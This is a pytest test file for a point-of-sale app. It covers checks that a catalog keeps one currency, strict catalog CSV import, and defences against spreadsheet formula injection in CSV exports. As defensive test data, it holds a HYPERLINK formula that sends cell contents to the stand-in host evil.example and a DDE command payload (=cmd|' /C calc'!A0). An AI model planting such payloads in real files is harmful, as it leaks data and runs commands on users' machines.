"""Catalog import strictness, CSV output safety and one currency per catalog, on a real
terminal database and through the `pos-app` command."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import text

from pos_app.adapters.sqlite.catalog_repo import SqliteCatalogRepository
from pos_app.adapters.sqlite.commission_repo import SqliteCommissionLedger
from pos_app.adapters.sqlite.commission_report_source import SqliteReportSource
from pos_app.adapters.sqlite.sale_store import SqliteSaleStore
from pos_app.adapters.sqlite.staff_repo import SqliteStaffRepository
from pos_app.adapters.sqlite.store import LocalDatabase
from pos_app.app.cli import main
from pos_app.domain.catalog import Variant
from pos_app.domain.clock import FixedClock
from pos_app.domain.commission import CommissionPlan, Match, Rate, RateKind, RateRule
from pos_app.domain.permissions import Role
from pos_app.domain.sale import PricingRules, TenderKind
from pos_app.services.catalog import CatalogService
from pos_app.services.commission_calculator import CommissionCalculator, CommissionSettings
from pos_app.services.commission_reports import (
    CommissionReportService,
    ReportFilter,
    ReportPeriod,
    ReportScope,
    drill_csv,
    payroll_csv,
)
from pos_app.services.demo_data import DEMO_TAX_CLASSES, write_catalog_csv
from pos_app.services.sale_commands import AddItem, AddTender, Complete, ReturnLine
from pos_app.services.sales import SalesDesk
from pos_app.services.staff import StaffService
from tests.commission_fixtures import install_plan
from tests.conftest import SequentialIds
from tests.integration.catalog_fixtures import CSV_HEADER, fast_hasher, write_csv

REPO_ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


@pytest.fixture(autouse=True)
def isolated_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("POS_APP_CONFIG", "POS_APP_DATA_DIR", "POS_APP_TERMINAL_ID"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))


def store_dir(path: Path, *variants: Variant) -> Path:
    """A data directory whose store has the demo tax classes and these variants."""
    db = LocalDatabase(path)
    try:
        repo = SqliteCatalogRepository(db)
        for tax_class in DEMO_TAX_CLASSES:
            repo.upsert_tax_class(tax_class)
        if variants:
            repo.upsert_variants(variants)
    finally:
        db.close()
    return path


def config(tmp_path: Path, currency: str) -> Path:
    path = tmp_path / f"{currency.lower()}.toml"
    path.write_text(f'[store]\nname = "Corner Shop"\ncurrency = "{currency}"\n',
                    encoding="utf-8")
    return path


def milk(currency: str = "USD", price: int = 199) -> Variant:
    return Variant(id="v-milk", product_id="p-milk", sku="MILK", barcode=None, title="Milk",
                   price_minor=price, currency=currency, tax_class=DEMO_TAX_CLASSES[0].code)


def pos_app(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pos_app", *argv], cwd=REPO_ROOT,
                          capture_output=True, text=True, timeout=120, check=False)


# --- one currency per catalog ------------------------------------------------------------


def test_a_config_currency_other_than_the_catalogs_is_refused_at_start(tmp_path: Path) -> None:
    data = store_dir(tmp_path / "store", milk("USD"))
    usd, jpy = config(tmp_path, "USD"), config(tmp_path, "JPY")
    ok = pos_app("search", "milk", "--data-dir", str(data), "--config", str(usd))
    assert ok.returncode == 0 and "1.99 USD" in ok.stdout, ok.stderr

    # Before: exit 0 and "Milk  199 JPY" — the 1.99 USD item repriced as 199 yen.
    refused = pos_app("search", "milk", "--data-dir", str(data), "--config", str(jpy))
    assert refused.returncode == 78, (refused.stdout, refused.stderr)
    assert ("pos-app: configuration error: The catalog is priced in USD but the config says "
            "JPY; change [store] currency back to USD, or re-import the catalog in JPY"
            ) in refused.stderr
    assert refused.stdout == ""


def test_import_and_demo_data_into_a_catalog_of_another_currency_are_refused(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = store_dir(tmp_path / "store", milk("USD"))
    jpy = config(tmp_path, "JPY")
    path = write_csv(tmp_path / "yen.csv", CSV_HEADER + "RICE,,Rice,500,standard,,,,\n")
    for argv in (["import-catalog", "--as-owner", str(path)], ["demo-data", "--products", "1"]):
        assert main([*argv, "--data-dir", str(data), "--config", str(jpy)]) == 78
        assert "priced in USD but the config says JPY" in capsys.readouterr().err
    db = LocalDatabase(data)
    try:
        repo = SqliteCatalogRepository(db)
        assert repo.count() == 1 and repo.price_currencies() == {"USD"}
    finally:
        db.close()


def test_an_empty_catalog_takes_the_config_currency(tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    data = store_dir(tmp_path / "store")
    jpy = config(tmp_path, "JPY")
    path = write_csv(tmp_path / "yen.csv", CSV_HEADER + "RICE,,Rice,500,standard,,,,\n")
    assert main(["import-catalog", "--as-owner", str(path), "--data-dir", str(data),
                 "--config", str(jpy)]) == 0
    capsys.readouterr()
    assert main(["search", "rice", "--data-dir", str(data), "--config", str(jpy)]) == 0
    assert "500 JPY" in capsys.readouterr().out


def test_the_catalog_currencies_come_from_the_index(tmp_path: Path) -> None:
    db = LocalDatabase(tmp_path / "store")
    try:
        repo = SqliteCatalogRepository(db)
        assert repo.price_currencies() == frozenset()
        for tax_class in DEMO_TAX_CLASSES:
            repo.upsert_tax_class(tax_class)
        repo.upsert_variants([milk("USD")])
        assert repo.price_currencies() == {"USD"}
        repo.upsert_variants([Variant(id="v-rice", product_id="p-rice", sku="RICE",
                                      barcode=None, title="Rice", price_minor=500,
                                      currency="JPY", tax_class=DEMO_TAX_CLASSES[0].code)])
        assert repo.price_currencies() == {"JPY", "USD"}
        with db.read() as conn:
            plan = " ".join(str(r[-1]) for r in conn.execute(text(
                "EXPLAIN QUERY PLAN SELECT (SELECT min(currency) FROM variant), "
                "(SELECT max(currency) FROM variant)")))
        assert "ix_variant_currency" in plan and "SCAN variant" not in plan
    finally:
        db.close()


# --- import-catalog: a file it cannot read is not applied --------------------------------


def test_import_catalog_refuses_an_unterminated_quote_and_writes_nothing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = store_dir(tmp_path / "store")
    # Before: "1 rows read, 1 new" and exit 0, the rows after the quote silently lost.
    path = write_csv(tmp_path / "cat.csv", CSV_HEADER +
                     'A,,Apple,1.00,standard,,,,"Orchard Co\n'
                     "B,,Banana,2.00,standard,,,,Fruit Co\n"
                     "C,,Cherry,3.00,standard,,,,Fruit Co\n")
    code = main(["import-catalog", "--as-owner", str(path), "--data-dir", str(data)])
    err = capsys.readouterr().err
    assert code == 65
    assert f'pos-app: Line 2 of {path}: a quoted field is never closed (unterminated ")' in err
    assert "nothing was imported" in err
    db = LocalDatabase(data)
    try:
        assert SqliteCatalogRepository(db).count() == 0
    finally:
        db.close()


def test_import_catalog_reports_each_lenient_price(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    data = store_dir(tmp_path / "store")
    prices = ["1e2", "1_000", "5E-1", " 1 2", "\u0661\u0662\u0663", "1.999", "+5", "NaN"]
    rows = "".join(f"S{i},,Item,{p},standard,,,,\n" for i, p in enumerate(prices))
    path = write_csv(tmp_path / "cat.csv", CSV_HEADER + rows)
    assert main(["import-catalog", "--as-owner", str(path), "--data-dir", str(data)]) == 65
    out = capsys.readouterr().out
    assert f"{len(prices)} rows read, 0 new" in out
    assert "2     price   '1e2'" in out and "Price is in scientific notation" in out
    assert "6     price   '\u0661\u0662\u0663'" in out and "a digit of another script" in out


# --- CSV output: formula-like text is neutralised ----------------------------------------


def assert_no_formula_cells(text_of_csv: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text_of_csv)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


def test_formula_titles_sold_and_exported_are_neutralised(tmp_path: Path) -> None:
    clock = FixedClock(datetime(2026, 11, 27, 15, 0, tzinfo=UTC))
    ids = SequentialIds()
    db = LocalDatabase(tmp_path / "store")
    try:
        repo = SqliteCatalogRepository(db, clock=clock)
        for tax_class in DEMO_TAX_CLASSES:
            repo.upsert_tax_class(tax_class)
        catalog = CatalogService(repo, ids=ids, currency="USD")
        # Titles as a hostile supplier file would have them; the import stores them as text.
        source = write_csv(tmp_path / "supplier.csv", CSV_HEADER +
                           f'LINK,,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",4.00,'
                           "standard,,,,\n"
                           "SUM,,@SUM(1),2.50,standard,,,,\n")
        assert catalog.import_csv(source).ok
        link, total = catalog.lookup("LINK"), catalog.lookup("SUM")
        assert (link.title, total.title) == (HYPERLINK, "@SUM(1)")

        staff = StaffService(SqliteStaffRepository(db), fast_hasher(), ids)
        seller = staff.add_staff("=cmd|' /C calc'!A0", Role.CASHIER, "4821")
        install_plan(db, CommissionPlan(
            id="floor", name="Floor", currency="USD", effective_from=date(2026, 1, 1),
            rules=(RateRule(Match(), Rate(RateKind.PERCENT, 1000)),)))
        desk = SalesDesk(SqliteSaleStore(db), PricingRules(repo.tax_classes()), clock, ids,
                         terminal_id="T1", currency="USD")
        desk.completion_hooks.append(CommissionCalculator(
            SqliteCommissionLedger(db, ids), CommissionSettings("T1", "USD"), clock, ids))
        sale = desk.new_sale(cashier_id=seller.id)
        sale.execute(AddItem(link, 1))
        sale.execute(AddItem(total, 2))
        sale.execute(AddTender(TenderKind.CASH, sale.settlement().remaining))
        receipt = sale.execute(Complete()).receipt_no
        assert receipt is not None
        line = desk.receipt(receipt).lines[0]
        back = desk.new_sale(cashier_id=seller.id)
        back.execute(ReturnLine(line.line, line.returned, 1))  # a clawback: negative amounts
        back.execute(AddTender(TenderKind.CASH, back.settlement().remaining))
        back.execute(Complete())

        local = SqliteReportSource(db, store_id=None, terminal_id="T1")
        reports = CommissionReportService(local, clock=clock, currency="USD",
                                          sale_refs=local)
        f = ReportFilter(ReportScope(), ReportPeriod.of("month", date(2026, 11, 1)))
        payroll = assert_no_formula_cells(payroll_csv(reports.report(f)))
        [row] = [r for r in payroll[1:] if r[0] == seller.id]
        assert row[1] == "'=cmd|' /C calc'!A0"
        assert row[8].startswith("-") and PLAIN_NUMBER.fullmatch(row[8])  # clawbacks
        drill = assert_no_formula_cells(drill_csv(reports.drill_down(f, seller.id)))
        lines = {r[4] for r in drill[1:]}
        assert f"1 · {HYPERLINK}" in lines and "2 · @SUM(1)" in lines
        assert any(r[8].startswith("-") and PLAIN_NUMBER.fullmatch(r[8]) for r in drill[1:])

        # The catalog written back out is neutralised too, and reads back unchanged.
        exported = tmp_path / "catalog.csv"
        write_catalog_csv(exported, [link, total])
        rows = assert_no_formula_cells(exported.read_text(encoding="utf-8"))
        assert [r[2] for r in rows[1:]] == ["'" + HYPERLINK, "'@SUM(1)"]
        report = catalog.import_csv(exported)
        assert report.ok and report.unchanged == 2
        assert catalog.lookup("LINK").title == HYPERLINK
    finally:
        db.close()
